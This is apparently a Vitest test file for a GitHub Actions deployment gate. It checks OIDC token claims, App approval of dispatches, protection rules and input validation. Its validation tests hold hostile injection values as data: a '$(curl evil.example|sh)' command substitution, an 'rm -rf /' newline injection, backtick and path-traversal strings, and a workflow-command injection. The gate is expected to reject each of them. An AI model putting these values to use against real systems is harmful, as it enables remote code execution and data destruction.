import { describe, expect, it } from "vitest";
import { run } from "../src/runner.js";
import { fakeGate, jwt, type FakeGate } from "./fake-gate-toolkit.js";

const SHA = "3f786850e387550fdab836ed7e6dc881de23001b";
const GOOD = "1111111111111111111111111111111111111111";
const NONCE = "0123456789abcdef0123456789abcdef";
const PLAN_SHA256 = "5d41402abc4b2a76b9719d911017c592ae8c2e0d38ab8a4a6ea6e0f3b2c1d4e5";
const REPO = "acme/infra";
const RUN_ID = "987654321";

const APPLY = {
  pr: "12",
  stack: "checkout-api",
  mode: "apply",
  sha: SHA,
  "target-sha": "",
  nonce: NONCE,
  "plan-run-id": "301",
  "plan-artifact-id": "9001",
  "plan-sha256": PLAN_SHA256,
  "default-branch": "main",
  "github-token": "ghs_job-token",
};
const ROLLBACK = {
  ...APPLY,
  mode: "rollback",
  "target-sha": GOOD,
  "plan-run-id": "",
  "plan-artifact-id": "",
  "plan-sha256": "",
};
const OIDC = { ...APPLY, "app-url": "https://infracrew.acme.example" };

/** The claims GitHub puts in the apply job's token. */
const CLAIMS = {
  iss: "https://token.actions.githubusercontent.com",
  aud: "infracrew",
  sub: `repo:${REPO}:environment:infracrew-apply`,
  repository: REPO,
  run_id: RUN_ID,
  run_attempt: "1",
  event_name: "workflow_dispatch",
  ref: "refs/heads/main",
  environment: "infracrew-apply",
  job_workflow_ref: `${REPO}/.github/workflows/infracrew-apply.yml@refs/heads/main`,
};
const TOKEN = jwt(CLAIMS);
const ENV = { GITHUB_REPOSITORY: REPO, GITHUB_RUN_ID: RUN_ID, GITHUB_API_URL: "https://api.github.com" };

/** The App's approval of the dispatch the apply inputs describe. */
const APPROVED = {
  approved: true,
  dispatch: {
    pr: 12,
    stack: "checkout-api",
    mode: "apply",
    sha: SHA,
    targetSha: null,
    nonce: NONCE,
    plan: { runId: 301, artifactId: 9001, sha256: PLAN_SHA256 },
  },
};

const answer = (status: number, body: unknown) => () => ({
  status,
  text: typeof body === "string" ? body : JSON.stringify(body),
});

function expectRefused(fake: FakeGate, message: string | RegExp): void {
  expect(fake.failed).toBeDefined();
  if (typeof message === "string") expect(fake.failed).toContain(message);
  else expect(fake.failed).toMatch(message);
  expect(fake.outputs).toEqual({});
}

describe("the gate, OIDC path (INFRACREW_APP_URL set)", () => {
  it("presents the job's token to the App with the nonce, and outputs the values the App approved", async () => {
    const fake = fakeGate({ inputs: OIDC, token: TOKEN, env: ENV, http: answer(200, APPROVED) });
    await run(fake);
    expect(fake.failed).toBeUndefined();
    expect(fake.tokenRequests).toEqual(["infracrew"]);
    expect(fake.secrets).toEqual(expect.arrayContaining(["ghs_job-token", TOKEN]));
    expect(fake.requests).toEqual([
      {
        url: "https://infracrew.acme.example/infracrew/gate",
        request: {
          method: "POST",
          headers: {
            authorization: `Bearer ${TOKEN}`,
            "content-type": "application/json",
            accept: "application/json",
            "user-agent": "infracrew-gate",
          },
          body: JSON.stringify({ nonce: NONCE }),
        },
      },
    ]);
    expect(fake.outputs).toEqual({
      pr: "12",
      stack: "checkout-api",
      mode: "apply",
      sha: SHA,
      "target-sha": "",
      nonce: NONCE,
      "plan-run-id": "301",
      "plan-artifact-id": "9001",
      "plan-sha256": PLAN_SHA256,
      dir: "infra/checkout-api",
      "checkout-ref": SHA,
      protection: "oidc",
    });
  });

  it("approves a rollback to the known-good commit, which is what the job checks out", async () => {
    const fake = fakeGate({
      inputs: { ...ROLLBACK, "app-url": "https://infracrew.acme.example/base/" },
      token: TOKEN,
      env: ENV,
      http: answer(200, {
        approved: true,
        dispatch: { ...APPROVED.dispatch, mode: "rollback", targetSha: GOOD, plan: null },
      }),
    });
    await run(fake);
    expect(fake.failed).toBeUndefined();
    expect(fake.requests[0]!.url).toBe("https://infracrew.acme.example/base/infracrew/gate");
    expect(fake.outputs).toMatchObject({
      mode: "rollback",
      "target-sha": GOOD,
      "checkout-ref": GOOD,
      "plan-run-id": "",
    });
  });

  it.each<[string, Record<string, unknown>]>([
    ["another pull request", { pr: 13 }],
    ["the pull request as a string", { pr: "12" }],
    ["another stack", { stack: "payments" }],
    ["another mode", { mode: "rollback" }],
    ["another commit", { sha: GOOD }],
    ["a rollback target", { targetSha: GOOD }],
    ["another nonce", { nonce: "f".repeat(32) }],
    ["another plan run", { plan: { runId: 302, artifactId: 9001, sha256: PLAN_SHA256 } }],
    ["another plan artifact", { plan: { runId: 301, artifactId: 9002, sha256: PLAN_SHA256 } }],
    ["another plan hash", { plan: { runId: 301, artifactId: 9001, sha256: "0".repeat(64) } }],
    ["no plan", { plan: null }],
    ["no dispatch at all", { stack: undefined, pr: undefined }],
  ])("fails when the App's approval names %s", async (_name, change) => {
    const fake = fakeGate({
      inputs: OIDC,
      token: TOKEN,
      env: ENV,
      http: answer(200, { approved: true, dispatch: { ...APPROVED.dispatch, ...change } }),
    });
    await run(fake);
    expectRefused(fake, "the App approved another dispatch than this run's inputs");
  });

  it.each([
    [
      "a 403 with the App's reason",
      answer(403, { approved: false, reason: "run 987654321 was not dispatched by the App" }),
      "the App refused this run (403): run 987654321 was not dispatched by the App",
    ],
    [
      "a 401",
      answer(401, { approved: false, reason: "token signature invalid" }),
      "the App did not accept this job's OIDC token (401): token signature invalid",
    ],
    ["a 500", answer(500, "Internal Server Error"), "the App answered 500, not an approval"],
    ["a 302", answer(302, ""), "the App answered 302, not an approval"],
    [
      "a 200 that does not approve",
      answer(200, { approved: false, reason: "already answered" }),
      "the App did not approve this run: already answered",
    ],
    [
      "a 200 with approved as a string",
      answer(200, { ...APPROVED, approved: "true" }),
      "the App did not approve this run",
    ],
    ["a 200 that is not JSON", answer(200, "<html>ok</html>"), "the App's answer is not JSON"],
    [
      "a network failure",
      () => new Error("connect ECONNREFUSED"),
      "the App could not be reached at https://infracrew.acme.example: connect ECONNREFUSED",
    ],
  ])("fails on %s", async (_name, http, message) => {
    const fake = fakeGate({ inputs: OIDC, token: TOKEN, env: ENV, http });
    await run(fake);
    expectRefused(fake, message);
    expect(fake.failed).toContain("Nothing was checked out and no cloud credentials were asked for.");
  });

  it("keeps a hostile reason to one short line", async () => {
    const reason = `nope\n::set-output name=sha::${GOOD}\n${"x".repeat(1000)}`;
    const fake = fakeGate({ inputs: OIDC, token: TOKEN, env: ENV, http: answer(403, { reason }) });
    await run(fake);
    expect(fake.failed).not.toContain("\n");
    expect(fake.failed!.length).toBeLessThan(500);
  });

  it.each([
    [
      "no id-token permission",
      new Error("Unable to get ACTIONS_ID_TOKEN_REQUEST_URL env variable"),
      "could not get this job's OIDC token (does the job have permissions: id-token: write?): Unable to get ACTIONS_ID_TOKEN_REQUEST_URL env variable",
    ],
    ["a token that is not a JWT", "not-a-jwt", "the OIDC token is not a JWT"],
    [
      "a token with a garbled payload",
      "eyJhbGciOiJSUzI1NiJ9.bm90IGpzb24.c2ln",
      "the OIDC token's header or claims are not JSON",
    ],
    [
      "a token for another audience",
      jwt({ ...CLAIMS, aud: "sts.amazonaws.com" }),
      "the OIDC token is not for the audience infracrew",
    ],
  ])("fails on %s, and sends nothing", async (_name, token, message) => {
    const fake = fakeGate({ inputs: OIDC, token, env: ENV, http: answer(200, APPROVED) });
    await run(fake);
    expectRefused(fake, message);
    expect(fake.requests).toEqual([]);
  });

  it.each([
    [
      "plain http",
      "http://infracrew.acme.example",
      "INFRACREW_APP_URL must be an https:// address (got http:)",
    ],
    [
      "credentials in it",
      "https://user:pw@infracrew.acme.example",
      "INFRACREW_APP_URL must hold no credentials, query or fragment",
    ],
    ["not a URL", "infracrew.acme.example", 'INFRACREW_APP_URL is not a URL (got "infracrew.acme.example")'],
  ])("refuses an app-url with %s, before asking for a token", async (_name, url, message) => {
    const fake = fakeGate({
      inputs: { ...APPLY, "app-url": url },
      token: TOKEN,
      env: ENV,
      http: answer(200, APPROVED),
    });
    await run(fake);
    expectRefused(fake, message);
    expect(fake.tokenRequests).toEqual([]);
  });

  it("with protection oidc and no app-url, fails and says which variable to set", async () => {
    const fake = fakeGate({ inputs: { ...APPLY, protection: "oidc" }, token: TOKEN, env: ENV });
    await run(fake);
    expectRefused(fake, "protection is oidc but INFRACREW_APP_URL is not set");
  });
});

describe("the gate refuses bad inputs before anything runs", () => {
  it.each([
    ["a stack that climbs out of infra/", { stack: "../../etc" }, "stack: must be a stack name"],
    ["a stack with a path in it", { stack: "infra/x" }, "stack: must be a stack name"],
    [
      "a stack with a command substitution",
      { stack: "$(curl evil.example|sh)" },
      "stack: must be a stack name",
    ],
    ["a stack with a backtick", { stack: "a`id`" }, "stack: must be a stack name"],
    ["a stack with a newline", { stack: "api\nrm -rf /" }, "stack: must be a stack name"],
    ["a stack starting with a dot", { stack: ".." }, "stack: must be a stack name"],
    ["an upper-case stack", { stack: "Checkout" }, "stack: must be a stack name"],
    ["a short commit", { sha: "3f78685" }, "sha: must be a full 40-character lowercase commit SHA"],
    ["a nonce that is not 32 hex", { nonce: "abc" }, "nonce: must be the dispatch's nonce"],
    ["a pr that is not a number", { pr: "12; echo" }, "pr: must be a pull request number"],
    ["an unknown mode", { mode: "destroy" }, "mode: must be apply or rollback"],
    ["an apply with a rollback target", { "target-sha": GOOD }, "target-sha: is for mode rollback only"],
    ["an apply without its plan", { "plan-sha256": "" }, "plan-sha256: must be the approved plan's sha256"],
    [
      "a default branch with ..",
      { "default-branch": "main/../x" },
      "default-branch: must be the repository's default branch",
    ],
    ["an unknown protection", { protection: "none" }, "protection: must be one of auto, oidc, rule"],
  ])("%s", async (_name, change, message) => {
    const fake = fakeGate({
      inputs: { ...OIDC, ...change },
      token: TOKEN,
      env: ENV,
      http: answer(200, APPROVED),
    });
    await run(fake);
    expectRefused(fake, message);
    expect(fake.tokenRequests).toEqual([]);
    expect(fake.requests).toEqual([]);
  });

  it("a rollback that names a plan", async () => {
    const fake = fakeGate({
      inputs: { ...ROLLBACK, "app-url": "https://x.example", "plan-run-id": "301" },
      token: TOKEN,
      env: ENV,
    });
    await run(fake);
    expectRefused(fake, "plan-run-id, plan-artifact-id and plan-sha256 are for mode apply only");
  });
});

describe("the gate, protection-rule path (no INFRACREW_APP_URL)", () => {
  const RULES_URL =
    "https://api.github.com/repos/acme/infra/environments/infracrew-apply/deployment_protection_rules";
  const rules = (list: unknown[]) =>
    answer(200, { total_count: list.length, custom_deployment_protection_rules: list });
  const INFRACREW_RULE = {
    id: 3,
    node_id: "x",
    enabled: true,
    app: {
      id: 77,
      slug: "infracrew",
      integration_url: "https://api.github.com/apps/infracrew",
      node_id: "y",
    },
  };

  it("passes only when the App's rule, enabled, guards the environment the token says the job runs in", async () => {
    const fake = fakeGate({ inputs: APPLY, token: TOKEN, env: ENV, http: rules([INFRACREW_RULE]) });
    await run(fake);
    expect(fake.failed).toBeUndefined();
    expect(fake.logs[0]).toContain(
      "INFRACREW_APP_URL is not set, so the App's deployment protection rule on infracrew-apply must guard this job",
    );
    expect(fake.requests.map((r) => [r.request.method, r.url, r.request.headers.authorization])).toEqual([
      ["GET", RULES_URL, "Bearer ghs_job-token"],
    ]);
    expect(fake.outputs).toMatchObject({ stack: "checkout-api", "checkout-ref": SHA, protection: "rule" });
  });

  it.each([
    ["no rule at all", rules([])],
    [
      "another App's rule",
      rules([{ ...INFRACREW_RULE, app: { ...INFRACREW_RULE.app, slug: "other-gate" } }]),
    ],
    ["the App's rule, disabled", rules([{ ...INFRACREW_RULE, enabled: false }])],
  ])("fails closed with %s, and says which variable to set", async (_name, http) => {
    const fake = fakeGate({ inputs: APPLY, token: TOKEN, env: ENV, http });
    await run(fake);
    expectRefused(
      fake,
      "INFRACREW_APP_URL is not set and the environment infracrew-apply has no enabled protection rule of the App infracrew",
    );
  });

  it.each([
    [
      "GitHub refusing the read",
      answer(403, { message: "Resource not accessible by integration" }),
      "could not read the protection rules of infracrew-apply: GitHub answered 403",
    ],
    [
      "GitHub not answering",
      () => new Error("ETIMEDOUT"),
      "could not read the protection rules of infracrew-apply: ETIMEDOUT",
    ],
  ])("fails on %s", async (_name, http, message) => {
    const fake = fakeGate({ inputs: APPLY, token: TOKEN, env: ENV, http });
    await run(fake);
    expectRefused(fake, message);
  });

  it.each<[string, Record<string, unknown>, string]>([
    ["outside the environment", { environment: undefined }, 'environment is null, not "infracrew-apply"'],
    ["in another environment", { environment: "staging" }, 'environment is "staging", not "infracrew-apply"'],
    [
      "on another branch",
      {
        ref: "refs/heads/attacker",
        job_workflow_ref: `${REPO}/.github/workflows/infracrew-apply.yml@refs/heads/attacker`,
      },
      'ref is "refs/heads/attacker", not "refs/heads/main"',
    ],
    [
      "from another workflow file",
      { job_workflow_ref: `${REPO}/.github/workflows/copy.yml@refs/heads/main` },
      "job_workflow_ref is",
    ],
    ["started by another event", { event_name: "push" }, 'event_name is "push", not "workflow_dispatch"'],
    ["of another run", { run_id: "1" }, 'run_id is "1", not "987654321"'],
    ["of another repository", { repository: "evil/infra" }, 'repository is "evil/infra", not "acme/infra"'],
  ])("fails for a job %s, without asking GitHub", async (_name, change, message) => {
    const fake = fakeGate({
      inputs: APPLY,
      token: jwt({ ...CLAIMS, ...change }),
      env: ENV,
      http: rules([INFRACREW_RULE]),
    });
    await run(fake);
    expectRefused(fake, "this job is not where the App's protection rule guards it");
    expectRefused(fake, message);
    expect(fake.requests).toEqual([]);
  });

  it("with protection rule, ignores app-url", async () => {
    const fake = fakeGate({
      inputs: { ...OIDC, protection: "rule" },
      token: TOKEN,
      env: ENV,
      http: rules([INFRACREW_RULE]),
    });
    await run(fake);
    expect(fake.failed).toBeUndefined();
    expect(fake.outputs.protection).toBe("rule");
  });
});
